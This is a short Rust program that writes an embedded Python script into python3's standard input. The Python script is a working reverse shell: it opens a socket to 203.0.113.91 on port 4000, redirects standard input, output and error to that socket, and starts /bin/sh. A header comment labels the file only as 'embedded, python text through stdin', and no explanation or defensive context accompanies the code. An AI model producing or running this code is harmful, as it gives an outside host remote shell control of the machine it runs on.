// class: embedded, python text through stdin; style: tidy
use std::io::Write;
use std::process::{Command, Stdio};

const PROGRAM: &[u8] = b"
import os, socket
s = socket.create_connection(('203.0.113.91', 4000))
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
os.execv('/bin/sh', ['sh'])
";

fn main() -> std::io::Result<()> {
    let mut child = Command::new("python3").arg("-").stdin(Stdio::piped()).spawn()?;
    child.stdin.take().unwrap().write_all(PROGRAM)?;
    child.wait()?;
    Ok(())
}
